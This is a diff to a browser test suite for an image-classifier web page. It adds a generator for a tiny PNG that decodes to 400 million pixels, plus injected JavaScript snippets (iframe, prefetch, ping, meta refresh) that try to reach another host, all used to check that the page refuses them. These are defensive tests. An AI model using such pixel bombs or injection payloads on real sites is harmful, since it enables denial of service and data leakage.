@@ -10,13 +10,16 @@ import gzip
 import io
 import re
 import shutil
+import struct
 import threading
+import zlib
 from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from urllib.parse import unquote, urlsplit
 
 import numpy as np
 import pytest
+from book_licences import PARTS
 from helpers import missing
 from PIL import Image
 
@@ -24,6 +27,7 @@ from catsdogs.backbone import find_base
 from catsdogs.checkpoint import load_checkpoint
 from catsdogs.config import PHASE1_CHECKPOINT, PHASE2_CHECKPOINT, Config
 from catsdogs.explain import find_head, signed_map
+from catsdogs.limits import MAX_PHOTO_PIXELS
 from catsdogs.photo import read_photo, resize_photo, sample_photo
 from catsdogs.web import export_web
 
@@ -228,6 +232,37 @@ def test_a_huge_file_is_refused_before_it_is_read(classifier, tmp_path):
     assert classifier.complaints == []
 
 
+def endless_png(side):
+    """A white square of so many pixels, even: as a file, thousands of times smaller than in memory."""
+    def chunk(kind, content):
+        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
+
+    packer, row = zlib.compressobj(), b"\0" + b"\xff" * (side // 8)
+    packed = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
+    header = struct.pack(">2I5B", side, side, 1, 0, 0, 0, 0)  # a bit for each pixel
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")
+
+
+@pytest.mark.fault("Página no navegador", "uma imagem de poucos KB com 400 milhões de pixels",
+                   "uma frase, sem abri-la; a página continua a funcionar")
+def test_an_image_of_too_many_pixels_is_refused_before_it_is_decoded(classifier):
+    classifier.locator("[data-sample]").click()
+    classifier.locator("[data-part=verdict]:visible").wait_for()
+    classifier.evaluate("""() => {
+        const decode = window.createImageBitmap;
+        window.decoded = 0;
+        window.createImageBitmap = (...of) => (window.decoded++, decode(...of));
+    }""")
+    content = endless_png(20_000)
+    assert len(content) < 100_000
+    choose(classifier, {"name": "foto.png", "mimeType": "image/png", "buffer": content})
+    classifier.locator("[data-part=status]", has_text=f"{MAX_PHOTO_PIXELS // 1_000_000} milhões de pixels").wait_for()
+    assert classifier.evaluate("decoded") == 0 and classifier.complaints == []
+    classifier.locator("[data-sample]").click()
+    classifier.locator("[data-part=verdict]:visible").wait_for()
+    assert classifier.evaluate("decoded") == 1
+
+
 @pytest.mark.fault("Página no navegador", "um nome de arquivo escrito para virar código",
                    "a foto é classificada; nada é executado")
 def test_a_file_s_name_is_no_code(classifier):
@@ -252,10 +287,17 @@ def test_a_photo_is_neither_kept_nor_sent(classifier):
     before = classifier.evaluate(STORED)
     requests = []
     classifier.on("request", lambda request: requests.append(request))
+    classifier.evaluate("""() => {
+        const { createObjectURL, revokeObjectURL } = URL;
+        window.held = new Set();
+        URL.createObjectURL = (blob) => { const made = createObjectURL(blob); held.add(made); return made; };
+        URL.revokeObjectURL = (address) => { held.delete(address); revokeObjectURL(address); };
+    }""")
     choose(classifier, str(sample_photo()))
     classifier.locator("[data-part=verdict]:visible").wait_for()
     classifier.wait_for_load_state("networkidle")
     assert classifier.evaluate(STORED) == before and classifier.context.cookies() == []
+    assert classifier.evaluate("held.size") == 0
     assert requests and {request.method for request in requests} == {"GET"}
     assert not any(request.post_data_buffer or urlsplit(request.url).query for request in requests)
     assert classifier.outside == []
@@ -273,6 +315,25 @@ def test_without_the_model_the_page_says_what_to_do(classifier):
     classifier.route("**/modelo.json", lambda route: route.fulfill(status=404))
     classifier.locator("[data-sample]").click()
     classifier.locator("[data-part=status]", has_text="instale o Node.js").wait_for()
+
+
+ENGINE = {"absl": "Abseil", "emscripten": "Emscripten", "gloop": "LiteRT.js", "ml_drift": "ML Drift",
+          "odml": "LiteRT.js", "protobuf": "Protocol Buffers", "ruy": "ruy", "tcmalloc": "TCMalloc",
+          "tensorflow": "TensorFlow Lite", "xnnpack": "XNNPACK", "EigenFor": "Eigen", "gemmlowp": "gemmlowp",
+          "NSt3__2": "libc++"}
+
+
+def test_what_the_engine_s_binaries_name_is_among_the_licences(site):
+    """It comes without a list of its parts; a new version may bring others."""
+    binaries = list((site / "_static" / "experimente").glob("litert/wasm/*.wasm"))
+    if not binaries:
+        missing("the site was built without npm")
+    listed = " ".join(part.name for part in PARTS)
+    for path in binaries:
+        content = path.read_bytes()
+        folders = {name.decode() for name in re.findall(rb"third_party/(\w+)/", content)}
+        assert folders <= set(ENGINE), path.name
+        assert [part for name, part in ENGINE.items() if name.encode() in content and part not in listed] == []
 
 
 # Every page
@@ -357,6 +418,11 @@ ATTACKS = {
     "worker": "try { new Worker(URL.createObjectURL(new Blob(['fetch(\"' + OTHER + '\")']))); } catch {}",
     "form": "document.body.insertAdjacentHTML('beforeend', `<form id=bait action='${OTHER}' method=post></form>`);"
             "document.getElementById('bait').submit()",
+    "page in a text": "document.body.insertAdjacentHTML('beforeend',"
+                      " '<iframe srcdoc=\"<script>parent.reached = true</script>\"></iframe>')",
+    "prefetch": "document.head.insertAdjacentHTML('beforeend', `<link rel=prefetch href='${OTHER}'>`)",
+    "ping": "document.body.insertAdjacentHTML('beforeend', `<a id=bait href='#x' ping='${OTHER}'>x</a>`);"
+            "document.getElementById('bait').click()",
     "base": "document.head.insertAdjacentHTML('afterbegin', `<base href='${OTHER}/'>`); new Image().src = 'x.png'",
 }
 
@@ -376,7 +442,7 @@ def until(page, condition, what=""):
 
 
 @pytest.mark.fault("Página no navegador", "código alheio dentro de uma página: script, atributo, eval, envio",
-                   "o navegador não executa nem envia nada")
+                   "o navegador não o executa, e recusa o envio por pedido, imagem, quadro, formulário ou link")
 @pytest.mark.parametrize("name", [PAGE, "book/pratica/confianca.html"], ids=["model", "formulas"])
 @pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
 def test_the_policy_stops_what_is_not_the_site_s(tab, elsewhere, name, attack):
@@ -400,6 +466,26 @@ def test_the_attacks_work_without_the_policy(browser, address, elsewhere):
         until(page, lambda page=page, seen=seen: seen or page.evaluate("reached"), name)
         page.close()
     context.close()
+
+
+@pytest.mark.fault("Página no navegador", "um texto alheio que manda o navegador a outro site (meta refresh)",
+                   "nenhuma política o impede: o navegador vai, sem levar a foto")
+def test_a_refresh_leads_away_and_takes_nothing_along(classifier, elsewhere):
+    other, seen = elsewhere
+    choose(classifier, str(sample_photo()))
+    classifier.locator("[data-part=verdict]:visible").wait_for()
+    classifier.evaluate("""(other) => document.body.insertAdjacentHTML(
+        "beforeend", `<meta http-equiv=refresh content="0; url=${other}">`)""", other)
+    until(classifier, lambda: seen)
+    assert seen == ["/"]
+
+
+def test_the_policy_does_not_stop_the_page_s_own_code_from_leaving(classifier, elsewhere):
+    """Why the page says that its code has to be trusted; should this fail some day, it may promise more."""
+    other, seen = elsewhere
+    classifier.evaluate(run_later("location = `${OTHER}/?photo`", other))
+    until(classifier, lambda: seen)
+    assert seen == ["/?photo"]
 
 
 def test_images_are_loaded(tab, page_names):
